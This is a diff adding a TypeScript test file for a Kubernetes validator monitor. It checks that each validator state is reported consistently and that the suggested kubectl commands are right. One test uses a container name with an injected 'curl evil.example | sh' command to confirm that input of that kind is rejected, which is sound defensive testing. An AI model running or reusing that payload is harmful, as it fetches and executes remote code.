@@ -1,0 +1,164 @@
+/** What one validator is, in one word and a sentence: the same in `status`, in `explain`, on the page and in metrics. */
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { readSettings } from '../../../app/settings.ts';
+import { decideNow } from '../../../cli/commands/current-reasons.ts';
+import { explain } from '../../../cli/commands/explain.ts';
+import { statusReport } from '../../../cli/commands/status-report.ts';
+import { evaluateWorld } from '../../../cli/snapshot.ts';
+import { takeSnapshot } from '../../../page/snapshot.ts';
+import { discover } from '../../../peers/discovery/discover.ts';
+import { readConfigMap } from '../../../peers/read/cluster.ts';
+import { readPod } from '../../../peers/read/workload.ts';
+import { releaseOf } from '../../../peers/reasons/reasons.ts';
+import type { World } from '../../../peers/world.ts';
+import { formatJournal } from '../../../reconciler/plan/journal/journal.ts';
+import { type Connections, overviewData } from '../../../reconciler/plan/publish/overview.ts';
+import { validatorGaugesOf } from '../../../reconciler/report/validator-gauges.ts';
+import { pod } from '../world.ts';
+import { at, DISCOVERY, NOW_MS, networkWorld, type Spec } from './group.ts';
+
+const SETTINGS = readSettings({});
+const OWN = 'stellar-peers';
+
+/** What all four say of validator `a`, beside a `b` that is up. */
+function saidOf(spec: Spec, { world = networkWorld({ a: spec, b: {} }) }: { world?: World } = {}) {
+  const asked = evaluateWorld(world, SETTINGS, NOW_MS);
+  const decided = decideNow(asked);
+  const { discovery } = asked;
+  const connections: Connections = new Map();
+  const moment = { world, discovery, nowMs: NOW_MS, connections };
+  const snapshot = takeSnapshot({ ...moment, told: decided.told, ownNamespace: OWN });
+  const byLabel = validatorGaugesOf(
+    { ...moment, ownNamespace: OWN, pausedSinceMs: () => undefined, driftSinceMs: () => undefined },
+    new Map(),
+  );
+  const [figures] = byLabel.values();
+  const [first] = decided.told.get('stellar/a') ?? [];
+  const explained = explain('stellar/a', asked, decided);
+  return {
+    status: statusReport(asked, decided).validators.find(({ name }) => name === 'a')?.state,
+    explain: explained && 'state' in explained ? explained.state : undefined,
+    page: snapshot.networks[0]?.rows.find(({ name }) => name === 'a'),
+    isReady: figures?.get('stellar_peers_ready_validators') === 2,
+    detail: first?.detail,
+    release: first && releaseOf(first, ['stellar/a']),
+  };
+}
+
+/** The same where all that agree are one word. */
+function stateOf(spec: Spec, options: { world?: World } = {}) {
+  const { status, explain: explained, page, isReady, ...rest } = saidOf(spec, options);
+  assert.equal(explained, status);
+  assert.equal(page?.code, status === 'Current' ? '' : status);
+  return { state: status, pictured: page?.state, isReady, ...rest };
+}
+
+describe('what a validator is', () => {
+  it('is Current where all its pods are Ready', () => {
+    const { state, pictured, isReady } = stateOf({});
+    assert.deepEqual([state, pictured, isReady], ['Current', 'up', true]);
+  });
+
+  it('is NotReady with a pod that is not, and with one that goes', () => {
+    const down = stateOf({ pod: { ready: false } });
+    assert.deepEqual([down.state, down.pictured, down.isReady], ['NotReady', 'down', false]);
+    assert.match(down.release ?? '', /: kubectl -n stellar describe pod a-0$/);
+    assert.equal(stateOf({ pod: { deletionTimestamp: at(5) } }).state, 'NotReady');
+  });
+
+  it('is NoPods without one, and says what shows why', () => {
+    const none = stateOf({ pod: 'none' });
+    assert.deepEqual([none.state, none.pictured, none.isReady], ['NoPods', 'down', false]);
+    assert.match(none.release ?? '', /: kubectl -n stellar describe sts a$/);
+    const unmade = stateOf({ pod: 'none', statefulSet: 'none' });
+    assert.deepEqual([unmade.state, unmade.detail], ['NoPods', 'its operator has made no StatefulSet']);
+  });
+
+  it('is NoNode where the scheduler finds none', () => {
+    const found = stateOf({ pod: { ready: false, unschedulable: true } });
+    assert.deepEqual([found.state, found.pictured], ['NoNode', 'down']);
+    assert.match(found.release ?? '', /kubectl -n stellar describe pod a-0$/);
+  });
+
+  it('names no container in a command that only the status of the pod knows', () => {
+    const raw = pod('a');
+    const spec = { containers: [{ name: 'one' }, { name: 'two' }] };
+    const containerOf = (name: string) =>
+      readPod({ ...raw, spec, status: { containerStatuses: [{ name, restartCount: 5 }] } }).container;
+    assert.equal(containerOf('two'), 'two');
+    assert.equal(containerOf('x; curl evil.example | sh'), undefined);
+  });
+
+  it('is never Current while its stellar-core starts again and again, also when it is Ready in between', () => {
+    const looping = stateOf({ pod: { restarts: 5, startedAt: at(20) } });
+    assert.deepEqual([looping.state, looping.pictured, looping.isReady], ['Restarting', 'restarting', false]);
+    assert.match(looping.release ?? '', /kubectl -n stellar logs a-0 -c stellar-node --previous$/);
+    assert.equal(stateOf({ pod: { restarts: 5, startedAt: at(3_600) } }).state, 'Current');
+    const down = stateOf({ pod: { ready: false, restarts: 5 } });
+    assert.equal(down.state, 'NotReady');
+    assert.match(down.detail ?? '', /was restarted 5 times/);
+    assert.match(down.release ?? '', /logs a-0 -c stellar-node --previous$/);
+  });
+
+  it('is Restarting while a restart of ours is under way, whatever its pods show, and does not wait for another', () => {
+    const specs = { a: { knows: [] }, b: {} };
+    const [group = ''] = discover(networkWorld(specs), DISCOVERY).groups.keys();
+    const entry = {
+      statefulSet: 'stellar/a',
+      kind: 'bump',
+      uids: ['x'],
+      token: 't',
+      drift: 'short',
+    } as const;
+    const journal = { [group]: formatJournal([{ ...entry, atMs: NOW_MS - 60_000 }], NOW_MS) };
+    const found = stateOf({}, { world: networkWorld(specs, { journal }) });
+    assert.deepEqual([found.state, found.pictured], ['Restarting', 'restarting']);
+    assert.equal(found.detail, 'by us, since 2026-05-31T23:59:00.000Z');
+    const asked = evaluateWorld(networkWorld(specs, { journal }), SETTINGS, NOW_MS);
+    assert.deepEqual(
+      decideNow(asked)
+        .told.get('stellar/a')
+        ?.map(({ code }) => code),
+      ['Restarting'],
+    );
+  });
+
+  it('is OutOfSync where stellar-core says so, and no green tick on the page', () => {
+    for (const connection of [
+      { connected: 0, expected: 1, synced: true },
+      { connected: 1, expected: 1, synced: false },
+    ]) {
+      const world = networkWorld({ a: {}, b: {} });
+      const connections = new Map([['stellar/a-0', connection]]);
+      const data = overviewData({ world, discovery: discover(world, DISCOVERY), connections }, NOW_MS);
+      const own = readConfigMap({ metadata: { name: OWN, namespace: OWN }, data });
+      const shown = { ...world, configMaps: new Map(world.configMaps).set(OWN, own) };
+      const found = stateOf({}, { world: shown });
+      assert.deepEqual([found.state, found.pictured], ['OutOfSync', 'apart']);
+    }
+  });
+
+  it('is Suspended where that is meant', () => {
+    const spec = { node: { spec: { suspended: true } }, pod: 'none' as const };
+    const { state, pictured } = stateOf(spec);
+    assert.deepEqual([state, pictured], ['Suspended', 'away']);
+  });
+
+  it('comes before the reasons, of which all are told', () => {
+    const spec = {
+      node: {
+        annotations: { 'stellar.org/peer-rollout': 'paused', 'stellar.org/peer-address': 'nonsense:0' },
+      },
+      knows: [],
+      pod: { ready: false },
+    };
+    const asked = evaluateWorld(networkWorld({ a: spec, b: {} }), SETTINGS, NOW_MS);
+    assert.deepEqual(
+      decideNow(asked)
+        .told.get('stellar/a')
+        ?.map(({ code }) => code),
+      ['NotReady', 'Paused', 'InvalidAddress'],
+    );
+  });
+});
